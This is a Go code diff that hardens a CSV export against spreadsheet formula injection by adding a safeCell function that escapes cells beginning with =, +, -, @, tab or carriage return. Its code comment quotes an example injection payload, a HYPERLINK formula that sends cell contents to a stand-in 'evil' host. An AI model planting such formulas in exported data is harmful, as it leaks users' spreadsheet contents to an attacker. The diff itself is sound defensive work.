@@ -102,7 +102,11 @@ func (c *CSV) write(conn Connector) error {
 	}
 	defer func() { _ = os.Remove(tmp.Name()) }() // after the rename there is nothing left to remove
 	w := csv.NewWriter(tmp)
-	_ = w.Write(append([]string{"SourceID"}, columns...))
+	header := []string{"SourceID"}
+	for _, col := range columns {
+		header = append(header, safeCell(col))
+	}
+	_ = w.Write(header)
 	err = c.DB.View(func(tx *store.Tx) error {
 		row := make([]string, len(columns)+1)
 		return tx.ForEachSinkRecord(conn.ID, func(id string, attrs []byte) error {
@@ -110,9 +114,9 @@ func (c *CSV) write(conn Connector) error {
 			if err := json.Unmarshal(attrs, &m); err != nil {
 				return err
 			}
-			row[0] = id
+			row[0] = safeCell(id)
 			for i, col := range columns {
-				row[i+1] = cell(m[col])
+				row[i+1] = safeCell(cell(m[col]))
 			}
 			return w.Write(row)
 		})
@@ -134,6 +138,18 @@ func (c *CSV) write(conn Connector) error {
 		return fmt.Errorf("write %s: %w", path, err)
 	}
 	return os.Rename(tmp.Name(), path)
+}
+
+// safeCell neutralises a cell that a spreadsheet would evaluate as a
+// formula (OWASP's CSV injection advice): one that starts with =, +, -, @,
+// a tab or a carriage return gets a ' in front, which Excel and LibreOffice
+// read as "text" and do not show. A title such as
+// =HYPERLINK("http://evil/?x="&A1,"Click") stays a title.
+func safeCell(s string) string {
+	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
+		return "'" + s
+	}
+	return s
 }
 
 func cell(v any) string {
